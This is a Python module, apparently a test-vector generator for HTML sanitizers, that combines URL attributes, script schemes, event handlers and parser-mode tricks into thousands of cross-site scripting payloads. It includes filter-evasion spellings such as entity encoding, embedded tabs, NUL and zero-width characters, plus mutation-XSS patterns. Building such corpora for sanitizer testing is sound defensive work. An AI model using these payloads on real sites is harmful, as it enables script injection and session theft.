"""Hostile HTML by the thousand, made from the HTML standard and no list of anybody's.

Owns the product of what a browser acts on (elements, attributes, schemes, events, parsing modes)
and of how it may be spelled.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

# Every attribute that HTML, SVG or MathML reads an address from, `{}` being the address.
POSITIONS = (
    "<a href={}>x</a>", "<area href={}>", "<img src={}>", "<img srcset={}>", "<img lowsrc={}>",
    "<iframe src={}></iframe>", "<object data={}>x</object>", "<embed src={}>", "<base href={}>",
    "<form action={}><button>x</button></form>", "<button formaction={}>x</button>",
    "<input type=image src={}>", "<link rel=stylesheet href={}>", "<script src={}></script>",
    "<meta http-equiv=refresh content={}>", "<body background={}>", "<table background={}><tr><td>",
    "<video poster={}></video>", "<audio src={}></audio>", "<video><source src={}></video>",
    "<video><track src={}></video>", "<blockquote cite={}>x</blockquote>", "<q cite={}>x</q>",
    "<html manifest={}>x", "<frameset><frame src={}></frameset>", "<a ping={} href=/>x</a>",
    "<svg><a xlink:href={}><text>x</text></a></svg>", "<svg><use href={}/></svg>",
    "<svg><image href={}/></svg>", "<svg><a><set attributeName=href to={}>x</a></svg>",
    "<math><mi href={}>x</mi></math>", "<math><maction xlink:href={}>x</maction></math>",
    "<p style='background:url({})'>x</p>", "<style>@import {};</style>",
)  # fmt: skip
SCHEMES = (
    "javascript:f()",
    "vbscript:f()",
    "data:text/html,<b>f",
    "blob:x/y",
    "file:///x",
    "//h/x",
)
# Ways to write a scheme that some parser undoes before it acts on it.
SPELLINGS = {
    "plain": lambda s: s,
    "mixed case": lambda s: "".join(c.upper() if i % 2 else c for i, c in enumerate(s)),
    "tab within": lambda s: f"{s[:3]}\t{s[3:]}",
    "line feed within": lambda s: f"{s[:2]}\n{s[2:]}",
    "control before": lambda s: f"\x01{s}",
    "NUL within": lambda s: f"{s[:3]}\0{s[3:]}",
    "decimal": lambda s: "".join(f"&#{ord(c)};" for c in s),
    "padded, no semicolon": lambda s: "".join(f"&#{ord(c):09d}" for c in s),
    "hexadecimal": lambda s: "".join(f"&#X{ord(c):x};" for c in s),
    "named colon": lambda s: s.replace(":", "&colon;"),
    "named tab": lambda s: f"{s[:4]}&Tab;{s[4:]}",
    "named line feed before": lambda s: f"&NewLine;{s}",
    "zero width before": lambda s: f"\u200b{s}",
    "percent": lambda s: "".join(f"%{ord(c):02x}" for c in s),
    "twice encoded": lambda s: s.replace(":", "&amp;colon;"),
}
QUOTES = ("'{}'", '"{}"', "{}")

ELEMENTS = str.split(
    "p b a img br td li div svg math body input details video marquee select object form x-y"
    " textarea h1 table button iframe style title"
)
EVENTS = str.split("click load error focus mouseover toggle animationstart beforeinput pointerdown")
SEPARATORS = (" ", "/", "\n", "\t", "\f", " a=1 ", " '' ", ' "', " =", "\0 ")

FOREIGN = ("<svg>", "<math>", "<svg><desc>", "<svg><foreignObject>", "<math><mtext>",
           "<math><annotation-xml encoding=text/html>", "<table>", "<select>", "")  # fmt: skip
RAW = str.split(
    "script style title textarea noscript xmp iframe noembed noframes plaintext template"
)
PAYLOADS = ("<img src=x onerror=f()>", "<script>f()</script>", "<a href=javascript:f()>x</a>")
CLOSERS = ("</{0}>", "</{0} >", "</{0}/>", "<!--</{0}>-->", "<p title='</{0}>'>", "</ {0}>")

OUTBREAKS = (
    "</div>", "</p></div></body></html>", "<!--", "<!-->", "<!--->", "--!>", "<![CDATA[", "]]>",
    "<?x", "<!x", "</", "<", "<a", "<a href='", '<a href="', "<a href=x", "&", "&#", "&#x", "<a/",
    "<table><div>", "</table></table>", "<td>", "</td></tr></table>", "<li>", "</ul></ol>", "<col>",
    "<select><div>", "<form><form>", "<button><button>", "<a><a>", "<h1><h1>", "<nobr><nobr>",
    "<body>", "<head>", "<html>", "<frameset>", "<plaintext>", "</br>", "</p>", "<isindex>",
)  # fmt: skip


def addresses() -> Iterator[str]:
    """Give every position with every scheme in every spelling."""
    spellings = SPELLINGS.values()
    for position, scheme, spell, quote in product(POSITIONS, SCHEMES, spellings, QUOTES):
        yield position.format(quote.format(spell(scheme)))


def events() -> Iterator[str]:
    """Give every element with every event attribute behind every separator."""
    for element, event, separator in product(ELEMENTS, EVENTS, SEPARATORS):
        yield f"<{element}{separator}on{event}=f()>x</{element}>"


def mutations() -> Iterator[str]:
    """Give payloads that one parsing mode takes for text and another for elements."""
    for outer, raw, payload, closer in product(FOREIGN, RAW, PAYLOADS, CLOSERS):
        yield f"{outer}<{raw}>{closer.format(raw)}{payload}</{raw}>x"


def outbreaks() -> Iterator[str]:
    """Give pairs of what ends, opens or leaves open a construct around a payload."""
    for first, second in product(OUTBREAKS, OUTBREAKS):
        yield f"{first}{second}{PAYLOADS[0]}{first}"


def truncations() -> Iterator[str]:
    """Give one long hostile page, cut after each of its characters."""
    page = "".join(
        f"<b{separator}c>{position.format(SCHEMES[0])}"
        for separator, position in zip(SEPARATORS, POSITIONS, strict=False)
    )
    for end in range(len(page)):
        yield page[:end]


def everything() -> Iterator[str]:
    """Give every vector."""
    for family in (addresses, events, mutations, outbreaks, truncations):
        yield from family()
